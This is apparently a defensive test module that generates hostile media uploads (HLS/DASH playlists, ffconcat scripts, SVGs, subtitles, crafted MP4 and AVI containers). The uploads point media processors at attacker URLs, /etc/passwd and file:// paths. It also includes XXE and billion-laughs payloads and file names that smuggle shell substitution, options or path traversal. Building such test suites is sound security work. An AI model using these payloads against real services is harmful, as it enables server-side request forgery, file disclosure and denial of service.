"""Files that name other files and addresses, and say that they are films."""

import struct
from collections.abc import Iterator

from tests.hostile.attack import Attack, Lures
from tests.hostile.boxes import box, full

_XML = '<?xml version="1.0"?>'
_ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n"
_DASH = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period>'

# `{url}` is what an attack tries to reach.
_TEXTS = {
    "hls": _HLS + "#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n",
    "hls master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n",
    "hls key": _HLS + '#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1,\nclip.ts\n#EXT-X-ENDLIST\n',
    "hls map": _HLS + '#EXT-X-MAP:URI="{url}"\n#EXTINF:1,\nclip.m4s\n#EXT-X-ENDLIST\n',
    "hls rendition": '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{url}"\n'
    '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{url}\n',
    "hls crypto": _HLS + "#EXTINF:1,\ncrypto+{url}\n#EXT-X-ENDLIST\n",
    "hls concat": _HLS + "#EXTINF:1,\nconcat:{url}|{url}\n#EXT-X-ENDLIST\n",
    "hls subfile": _HLS + "#EXTINF:1,\nsubfile,,start,0,end,64,,:{url}\n#EXT-X-ENDLIST\n",
    "hls late": "\n" * 600 + _HLS + "#EXTINF:1,\n{url}\n",
    "m3u": "{url}\n",
    "dash": _XML + _DASH + '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{url}'
    "</BaseURL></Representation></AdaptationSet></Period></MPD>",
    "dash template": _XML + _DASH + '<AdaptationSet><SegmentTemplate media="{url}" initialization="{url}"/>'
    '<Representation id="1" bandwidth="1"/></AdaptationSet></Period></MPD>',
    "dash link": _XML + '<MPD xmlns:xlink="http://www.w3.org/1999/xlink"><Period xlink:href="{url}"/></MPD>',
    "dash entity": _ENTITY + "<MPD>&e;</MPD>",
    "concat": "ffconcat version 1.0\nfile '{url}'\nduration 1\n",
    "concat options": "ffconcat version 1.0\nfile '{url}'\noption protocol_whitelist file,http,tcp\n",
    "metadata": ";FFMETADATA1\ntitle={url}\n[CHAPTER]\nTIMEBASE=1/0\nSTART=0\nEND=9223372036854775807\n",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns={url}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
    "svg": _SVG + '<image xlink:href="{url}" width="64" height="64"/></svg>',
    "svg entity": _ENTITY + _SVG + "<text>&e;</text></svg>",
    "svg style": '<?xml version="1.0"?><?xml-stylesheet href="{url}"?>' + _SVG + '<style>@import "{url}"</style></svg>',
    "svg include": _SVG + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/></svg>',
    "laughs": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + "]><svg>&j;</svg>",
    "smil": '<smil><body><video src="{url}"/></body></smil>',
    "pls": "[playlist]\nFile1={url}\nNumberOfEntries=1\n",
    "asx": '<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
    "xspf": _XML + "<playlist><trackList><track><location>{url}</location></track></trackList></playlist>",
    "asf reference": "[Reference]\nRef1={url}\n",
    "cue sheet": 'FILE "{url}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "avisynth": 'AviSource("{url}")\n',
    "vobsub": "# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n",
    "subrip": '1\n00:00:00,000 --> 00:00:01,000\n<img src="{url}"/>\n',
    "webvtt": "WEBVTT\nSTYLE\n::cue{{background:url({url})}}\n\n00:00.000 --> 00:01.000\n{url}\n",
    "ass fonts": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {url}\n" + "!" * 80 + "\n[Events]\n"
    "Format: Start, End, Text\nDialogue: 0:00:00.00,0:00:01.00,{{\\fn{url}}}x\n",
    "cpl": _XML + "<CompositionPlaylist xmlns='http://www.smpte-ra.org/schemas/2067-3/2016'><Id>{url}</Id>"
    "</CompositionPlaylist>",
    "pattern": "{url}%03d.png\n",
    "rtsp": "RTSPtextRTSP://127.0.0.1/x\n",
    "lyrics": "[00:00.00]{url}\n",
    "page": '<html><video src="{url}"></video><meta http-equiv="refresh" content="0;url={url}"></html>',
}  # fmt: skip
_TO_FILE = ("hls", "hls concat", "hls subfile", "dash", "concat", "concat options", "svg", "svg entity", "cue sheet")
# names that mean something to a program that takes patterns, protocols or options for names
KEYS = (
    "uploads/clip.m3u8", "uploads/clip.mpd", "uploads/clip.ffconcat", "uploads/clip.svg", "uploads/clip.sdp",
    "uploads/clip%03d.png", "uploads/%d%s%n.mp4", "uploads/*.png", "uploads/concat:a|b.mp4", "uploads/-i.mp4",
    "uploads/clip.mp4|id", "uploads/$(id).mp4", "uploads/../etc/passwd", "uploads/clip\n-y.mp4",
)  # fmt: skip


def attacks(film: bytes, lures: Lures) -> Iterator[Attack]:
    for name, text in _TEXTS.items():
        yield Attack(f"{name} of an address", _naming(text, f"{lures.url}/{name.replace(' ', '-')}"), "reference")
    for name in _TO_FILE:
        yield Attack(f"{name} of a file", _naming(_TEXTS[name], f"file://{lures.file}"), "reference")
        yield Attack(f"{name} of a path", _naming(_TEXTS[name], lures.file), "reference")
    yield Attack("hls of the password file", _naming(_TEXTS["hls"], "/etc/passwd"), "reference")
    for key in KEYS:
        yield Attack(f"name {key!r}", _naming(_TEXTS["hls"], f"{lures.url}/key"), "name", key)
    yield Attack("film by the name of a pattern", film, "name", "uploads/film%03d.png")
    yield from _inside_containers(film, lures)


def _naming(text: str, url: str) -> bytes:
    return text.replace("{url}", url).replace("{{", "{").replace("}}", "}").encode()


def _inside_containers(film: bytes, lures: Lures) -> Iterator[Attack]:
    playlist = _naming(_TEXTS["hls"], f"{lures.url}/inside")
    script = _naming(_TEXTS["concat"], lures.file)
    yield Attack("film with an alias of a path", with_references(film, lures.file.lstrip("/")), "reference")
    yield Attack("film with an alias beside it", with_references(film, "other.mp4"), "reference")
    address = box("url ", bytes(4), lures.url.encode() + b"/dref\0")
    yield Attack("film with an address", grown(film, _OWN, address), "reference")
    yield Attack("film that refers to a film", _reference_movie(f"{lures.url}/rmra"), "reference")
    yield Attack("playlist behind ftyp", box("ftyp", b"isom", bytes(4), b"isom") + playlist, "reference")
    yield Attack("playlist behind a tag", b"ID3\4\0\0\0\0\0\0" + playlist, "reference")
    yield Attack("playlist in the subtitles of an avi", _with_subtitles(playlist), "reference")
    yield Attack("script in the subtitles of an avi", _with_subtitles(script), "reference")
    yield Attack("playlist in utf-16", playlist.decode().encode("utf-16"), "reference")
    yield Attack("picture with a playlist behind", b"\xff\xd8\xff\xd9" + playlist, "reference")


def _reference_movie(url: str) -> bytes:
    """https://developer.apple.com/documentation/quicktime-file-format/reference_movie_atoms"""
    named = full("rdrf", b"url ", struct.pack(">I", len(url) + 1), url.encode() + b"\0")
    return box("ftyp", b"qt  ", bytes(4), b"qt  ") + box("moov", box("rmra", box("rmda", named)))


def _with_subtitles(text: bytes) -> bytes:
    """An AVI whose second stream is text in the form that some players read as subtitles of any format (GAB2)."""
    header = struct.pack("<14I", 40_000, 0, 0, 0, 1, 0, 2, 0, 64, 64, 0, 0, 0, 0)
    video = _riff("strl", _chunk(b"strh", b"vidsMJPG" + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 1, 0, 0, 0) + bytes(8)),
                  _chunk(b"strf", struct.pack("<3I2H4s5I", 40, 64, 64, 1, 24, b"MJPG", 0, 0, 0, 0, 0)))  # fmt: skip
    words = _riff("strl", _chunk(b"strh", b"txts" + bytes(4) + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 1, 0, 0, 0)
                  + bytes(8)), _chunk(b"strf", b""))  # fmt: skip
    gab = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"\0\0" + struct.pack("<HI", 4, len(text)) + text
    movi = _riff("movi", _chunk(b"01tx", gab), _chunk(b"00dc", b"\xff\xd8\xff\xd9"))
    body = b"AVI " + _riff("hdrl", _chunk(b"avih", header), video, words) + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _riff(name: str, *contents: bytes) -> bytes:
    return _chunk(b"LIST", name.encode() + b"".join(contents))


def _chunk(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


# ── references of tracks ──────────────────────────────────────────────────────────────────────

_OWN = b"\x00\x00\x00\x0curl \x00\x00\x00\x01"
_PARENTS = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def with_references(film: bytes, name: str) -> bytes:
    """The film with the data references of its tracks naming another file, as QuickTime's aliases do.

    https://developer.apple.com/documentation/quicktime-file-format/data_reference_atom
    """
    alias = bytearray(150)
    alias[10:38] = b"\x04disk".ljust(28, b"\0")
    alias[50:114] = (bytes([min(63, len(name))]) + name.encode()[:63]).ljust(64, b"\0")
    path = b"/uploads/" + name.encode()
    alias += b"\x00\x02" + len(path).to_bytes(2, "big") + path + bytes(len(path) % 2) + b"\xff\xff\x00\x00"
    assert _OWN in film
    return grown(film, _OWN, box("alis", bytes(4), bytes(alias)))


def grown(film: bytes, old: bytes, new: bytes, inside: tuple[bytes, ...] = _PARENTS) -> bytes:
    """The film with a box replaced by a larger one, its parents grown with it; the index is at the end."""
    out = bytearray(film)
    at = 0
    while (at := out.find(old, at)) >= 0:
        for name in inside:
            start = out.rfind(name, 0, at) - 4
            size = int.from_bytes(out[start : start + 4], "big") + len(new) - len(old)
            out[start : start + 4] = size.to_bytes(4, "big")
        out[at : at + len(old)] = new
        at += len(new)
    return bytes(out)
